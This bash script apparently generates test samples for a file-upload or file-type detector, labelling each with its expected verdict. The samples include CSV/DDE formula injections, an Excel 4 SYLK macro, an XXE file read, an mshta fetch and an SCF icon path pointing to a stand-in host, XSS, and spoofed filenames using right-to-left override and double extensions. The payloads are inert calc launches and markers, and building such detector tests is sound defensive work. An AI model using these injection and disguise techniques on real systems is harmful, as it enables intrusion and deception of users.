#!/bin/bash
# Scripts, shortcuts, pages and texts that are none. Their payload is a mark that does nothing. A script that is kept as a
# text gets the extension .txt, which nothing runs: harmless.
. "$(dirname "$0")/record.sh"
cd "$WORK"
hand='printf' N=0
bad() { # GROUP NAME WHAT EXPECTED FORMAT [UPLOADED]
  printf -- "$5" >"b-file"
  keep hostile "$1" "$2" "$hand" "$3" "$4" b-file "${6:-$2}"
}
S=script,harmless:txt
bad scripts bat.bat 'batch file' $S '@echo off\r\nrem MARQUEUR\r\nstart calc.exe\r\n'
bad scripts bat-sans-echo.bat 'batch file without any usual first line' $S 'title Facture\r\ncalc.exe\r\n'
bad scripts bat-zero-largeur.bat 'batch file, zero-width space in its extension' $S 'calc.exe\r\n' 'facture.b\\u{200b}at'
bad scripts bat-double.bat 'batch file, two extensions' $S 'calc.exe\r\n' 'facture.pdf.bat'
bad scripts bat-espace.bat 'batch file, a space and a dot at the end of its name' $S 'calc.exe\r\n' 'facture.bat. '
bad scripts bat-sens.bat 'batch file, direction changed in its name' $S 'calc.exe\r\n' 'facture\\u{202e}fdp.bat'
bad scripts bat-sans-extension 'batch file without extension' $S 'calc.exe\r\n' 'facture'
bad scripts bat-citation.bat 'batch file, quotation mark as browsers send it' $S 'calc.exe\r\n' 'facture%%22.bat'
bad scripts cmd.cmd 'command file' $S 'setlocal\r\ncmd /c echo MARQUEUR\r\n'
bad scripts vbs.vbs 'VBScript' script 'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n'
bad scripts vbs-doux.vbs 'VBScript without a known call' $S 'Dim x\r\nx = 1\r\nMsgBox "MARQUEUR"\r\n'
bad scripts vbs-utf16.vbs 'VBScript in UTF-16' "script" '\xff\xfeS\x00e\x00t\x00 \x00s\x00=\x00C\x00r\x00e\x00a\x00t\x00e\x00O\x00b\x00j\x00e\x00c\x00t\x00(\x00"\x00W\x00S\x00c\x00r\x00i\x00p\x00t\x00.\x00S\x00h\x00e\x00l\x00l\x00"\x00)\x00'
bad scripts js.js 'JScript' script 'var a = new ActiveXObject("WScript.Shell"); // MARQUEUR\n'
bad scripts js-doux.js 'JavaScript without a known call' $S 'let x = 1; console.log(x);\n'
bad scripts module.mjs 'JavaScript module' $S "import fs from 'node:fs';\nexport const x = fs.readdirSync('/');\n"
bad scripts ps1.ps1 'PowerShell' $S 'param([string]$a)\nInvoke-Expression "MARQUEUR"\n'
bad scripts ps1-ligne.txt 'a line of PowerShell in a text' $S 'Bonjour\npowershell -enc TUFSUVVFVVI=\n'
bad scripts psm1.psm1 'PowerShell functions' $S 'function Get-X { Write-Host MARQUEUR }\n'
bad scripts sh.sh 'shell script' script '#!/bin/sh\necho MARQUEUR\n'
bad scripts sh-bom.sh 'shell script after a byte order mark' script '\xef\xbb\xbf#!/bin/sh\necho MARQUEUR\n'
bad scripts sh-utf16.txt 'shell script in UTF-16' script '\xff\xfe#\x00!\x00/\x00b\x00i\x00n\x00/\x00s\x00h\x00\n\x00'
bad scripts sh-sans-shebang.sh 'shell script without its first line' $S 'echo MARQUEUR\nexit 0\n'
bad scripts py.py 'Python' $S 'import os\nos.system("echo MARQUEUR")\n'
bad scripts py-shebang.py 'Python with its first line' script '#!/usr/bin/env python3\nprint("MARQUEUR")\n'
bad scripts rb.rb 'Ruby' $S 'require "json"\nputs "MARQUEUR"\n'
bad scripts pl.pl 'Perl' script '#!/usr/bin/perl\nprint "MARQUEUR";\n'
bad scripts php.php 'PHP' markup '<?php echo "MARQUEUR"; ?>\n'
bad scripts php-court.txt 'PHP, short tag' 'markup,script' 'bonjour\n<?= "MARQUEUR" ?>\n'
bad scripts asp.asp 'ASP' 'markup,script' '<%% Response.Write "MARQUEUR" %%>\n'
bad scripts jsp.jsp 'JSP' 'markup,script' '<%%@ page import="java.util.*" %%><%% out.print(1); %%>\n'
bad scripts lua.lua 'Lua' $S 'local x = 1\nprint(x)\n'
bad scripts applescript.applescript 'AppleScript' $S 'tell application "Finder"\n display dialog "MARQUEUR"\nend tell\n'
bad scripts bas.bas 'Visual Basic module' $S 'Attribute VB_Name = "M"\nSub AutoOpen()\n Shell "calc"\nEnd Sub\n'
bad scripts inf.inf 'Windows setup information' "$S,shortcut" '[Version]\r\nSignature="$CHICAGO$"\r\n[DefaultInstall]\r\nRunPreSetupCommands=x\r\n'
bad scripts reg.reg 'registry' script 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\MARQUEUR]\r\n'
bad scripts reg4.reg 'registry, older' 'script,type' 'REGEDIT4\r\n\r\n[HKEY_CURRENT_USER\\Software\\MARQUEUR]\r\n'
bad scripts hta.hta 'HTML application' markup '<html><hta:application id=x><script>/*MARQUEUR*/</script></html>'
bad scripts wsf.wsf 'Windows script' markup '<job><script language="JScript">/*MARQUEUR*/</script></job>'
bad scripts sct.sct 'scriptlet' markup '<?XML version="1.0"?><scriptlet><registration progid="M"><script language="JScript">/*MARQUEUR*/</script></registration></scriptlet>'
bad scripts sql.sql 'SQL' $S 'DROP TABLE marqueur;\n'
bad scripts makefile 'Makefile' $S 'all:\n\techo MARQUEUR\n'
bad scripts dockerfile 'Dockerfile' $S 'FROM debian\nRUN echo MARQUEUR\n'
bad scripts mshta.txt 'a line that fetches a page as a program' script 'mshta http://serveur.exemple/x.hta\r\n'
bad scripts rundll.txt 'a line that starts a library' script 'rundll32 shell32.dll,Control_RunDLL calc.cpl\r\n'

bad shortcuts lien.url 'Internet shortcut' 'shortcut,script' '[InternetShortcut]\r\nURL=file://serveur.exemple/x.exe\r\n'
bad shortcuts lien-en-txt.txt 'Internet shortcut under the name of a text' 'shortcut,script,harmless:txt' '[InternetShortcut]\r\nURL=https://serveur.exemple/\r\n'
bad shortcuts app.desktop 'Linux launcher' 'shortcut,script' '[Desktop Entry]\nType=Application\nName=Facture\nExec=sh -c "echo MARQUEUR"\n'
bad shortcuts app-commentaire.desktop 'Linux launcher after comments' 'shortcut,script,harmless:txt' '# Facture\n\n[Desktop Entry]\nType=Application\nExec=true\n'
bad shortcuts dossier.scf 'Windows folder command' 'shortcut,script,harmless:txt' '[Shell]\r\nCommand=2\r\nIconFile=\\\\serveur.exemple\\x\\y.ico\r\n'
bad shortcuts autorun.inf 'autorun' 'shortcut,script,harmless:txt' '[autorun]\r\nopen=calc.exe\r\n'
bad shortcuts bureau.rdp 'remote desktop' 'shortcut,script' 'screen mode id:i:2\r\nfull address:s:serveur.exemple\r\nredirectdrives:i:1\r\n'
bad shortcuts bureau-en-txt.txt 'remote desktop that begins otherwise' 'shortcut,script,harmless:txt' 'use multimon:i:0\r\nalternate shell:s:calc.exe\r\nfull address:s:serveur.exemple\r\n'
bad shortcuts requete.iqy 'web query' 'shortcut,script' 'WEB\r\n1\r\nhttps://serveur.exemple/x\r\n'
bad shortcuts requete-lf.iqy 'web query, other line ends' 'shortcut,script' 'WEB\n1\nhttps://serveur.exemple/x\n'
bad shortcuts requete.csv 'web query under the name of a table' 'shortcut,script' 'WEB\r\n1\r\nhttps://serveur.exemple/x\r\n\r\nSelection=1\r\n'
bad shortcuts source.oqy 'database query' 'shortcut,script,harmless:txt' 'QueryType=OLEDB\r\nVersion=1\r\nCommandType=Table\r\n'
bad shortcuts requete.dqy 'database query' 'shortcut,script,harmless:txt' 'XLODBC\r\n1\r\nDRIVER=SQL Server;SERVER=serveur.exemple\r\n'
bad shortcuts raccourci.lnk 'Windows shortcut, bytes by hand' program 'L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46\x81\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00'
bad shortcuts application.jnlp 'Java Web Start' markup '<?xml version="1.0"?><jnlp href="x.jnlp"/>\n'
bad shortcuts reglages.settingcontent-ms 'Windows settings' markup '<?xml version="1.0"?><PCSettings><SearchableContent><DeepLink>calc.exe</DeepLink></SearchableContent></PCSettings>'
bad shortcuts bibliotheque.library-ms 'Windows library' markup '<?xml version="1.0"?><libraryDescription/>'

bad formula calc-virgule.csv 'DDE in the second cell' 'formula,script' "nom,total\r\nA,=cmd|'/C calc'!A0\r\n"
bad formula calc-tab.txt 'DDE after a tab' 'formula,script' "nom\ttotal\r\nA\t=cmd|'/C calc'!A0\r\n"
bad formula calc-guillemets.csv 'DDE in quotation marks' 'formula,script' "\"=cmd|'/C calc'!A0\";1\r\n"
bad formula calc-plus.csv 'DDE after a plus' 'formula,script' "+cmd|'/C calc'!A0;1\r\n"
bad formula calc-moins.csv 'DDE after a minus' 'formula,script' "-cmd|'/C calc'!A0;1\r\n"
bad formula calc-arobase.csv 'DDE after @' 'formula,script' "@cmd|'/C calc'!A0;1\r\n"
bad formula calc-calcul.csv 'DDE after a computation' 'formula,script' "=1+1+cmd|'/C calc'!A0;1\r\n"
bad formula calc-moins-deux.csv 'DDE after a negative number' 'formula,script' "-2+3+cmd|'/C calc'!D2;1\r\n"
bad formula calc-msexcel.csv 'DDE with another program' 'formula,script' "=MSEXCEL|'..\\\\..\\\\Windows\\\\System32\\\\cmd.exe /c calc'!''\r\n"
bad formula calc-fin.csv 'DDE at the end of a long table' 'formula,script' "$(for i in $(seq 2000); do echo "$i;ligne;12"; done)\r\n=cmd|'/C calc'!A0;1\r\n"
bad formula calc-mac.csv 'DDE, line ends of the old Macintosh' 'formula,script' "nom;total\r=cmd|'/C calc'!A0;1\r"
bad formula calc-bom.csv 'DDE right after a byte order mark' 'formula,script' "\xef\xbb\xbf=cmd|'/C calc'!A0;1\r\n"
bad formula calc-espace.csv 'DDE after spaces' 'formula,script' "x;  =cmd|'/C calc'!A0\r\n"
bad formula calc-majuscules.csv 'DDE in capitals' 'formula,script' "x;=CMD|'/C CALC'!A0\r\n"
bad formula dde-fonction.csv 'DDE function of LibreOffice' 'formula,script' 'x;=DDE("soffice";"x";"y")\r\n'

SYLK='ID;PWXL;N;E\r\nP;PGeneral\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;K0;EEXEC("CALC.EXE")\r\nC;X1;Y102;K0;EHALT()\r\nE\r\n'
bad sylk macro.slk 'SYLK with an Excel 4 macro' 'sylk,script' "$SYLK"
bad sylk macro.csv 'the same under the name of a table' 'sylk,script' "$SYLK"
bad sylk macro-lf.txt 'the same, other line ends' 'sylk,script' "$(printf "$SYLK" | tr -d '\r')\n"
bad sylk macro-cr.txt 'the same, line ends of the old Macintosh' 'sylk,script' "$(printf "$SYLK" | tr -d '\n')"
bad sylk macro-bom.txt 'the same after a byte order mark' 'sylk,script,harmless:txt' "\xef\xbb\xbf$SYLK"
bad sylk macro-p-court.slk 'SYLK that names no program' 'sylk,script' "$(printf "$SYLK" | sed 's/^ID;PWXL;N;E/ID;P/')\n"

bad markup page.html 'page' markup '<!DOCTYPE html><html><script>/*MARQUEUR*/</script></html>'
bad markup page-fin.txt 'a frame at the end of a long text' markup "$(for i in $(seq 20000); do echo "ligne;$i"; done)\n<iframe src=x>\n"
bad markup svg.svg 'SVG with a script' markup '<svg xmlns="http://www.w3.org/2000/svg" onload="/*MARQUEUR*/"/>'
bad markup svg-espace.txt 'SVG after white space and a comment' markup '\n\n  <!-- x --> <svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'
bad markup xml.xml 'XML' markup '<?xml version="1.0"?>\n<a/>\n'
bad markup xml-entite.xml 'XML with an external entity' markup '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>'
bad markup utf16.html 'page in UTF-16' markup '\xff\xfe<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x001\x00<\x00/\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00'
bad markup utf16be.html 'page in UTF-16, the other byte order' markup '\xfe\xff\x00<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x001\x00<\x00/\x00s\x00c\x00r\x00i\x00p\x00t\x00>'
bad markup mht.mht 'web archive' 'markup,script' 'MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<html><script>1</script></html>\r\n'
bad markup img.txt 'a picture that runs on error' markup 'bonjour <img src=x onerror=alert(1)>\n'
bad markup xsl.xsl 'style sheet' markup '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>'
bad markup plist.plist 'property list' markup '<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "x"><plist/>'

bad mail message.eml 'mail' 'type,script,markup,archive,harmless:txt' 'From: a@exemple.fr\r\nTo: b@exemple.fr\r\nSubject: x\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Disposition: attachment; filename=x.exe\r\nContent-Transfer-Encoding: base64\r\n\r\nTVo=\r\n--x--\r\n'
bad mail contact.vcf 'contact' type,$S 'BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Bureau\r\nEND:VCARD\r\n'

bad not-text nul.txt 'a NUL in a text' not_plain_text 'bonjour\x00monde\n'
bad not-text nul-fin.txt 'a NUL at the end' not_plain_text 'bonjour\n\x00'
bad not-text utf16-sans-marque.txt 'UTF-16 without a mark' 'not_plain_text' 'B\x00o\x00n\x00j\x00o\x00u\x00r\x00'
bad not-text utf16-nul.txt 'UTF-16 that holds a NUL' 'not_plain_text' '\xff\xfeB\x00\x00\x00o\x00'
bad not-text utf32.txt 'UTF-32' 'not_plain_text' '\xff\xfe\x00\x00B\x00\x00\x00o\x00\x00\x00'
bad not-text controles.txt 'control characters' 'not_plain_text' 'bonjour\x01\x02\x03\n'
bad not-text ctrl-z-milieu.txt '^Z in the middle: what follows, DOS does not show' 'not_plain_text' 'bonjour\r\n\x1asuite\r\n'
head -c 3000 /dev/zero >zero; keep hostile not-text zeros.bin coreutils 'zeros' 'not_plain_text,type' zero
openssl enc -aes-128-ctr -K 00112233445566778899aabbccddeeff -iv 00000000000000000000000000000000 -in zero -out alea; keep hostile not-text hasard.pdf OpenSSL 'noise under the name of a PDF' 'not_plain_text,type,damaged,program,picture,media' alea
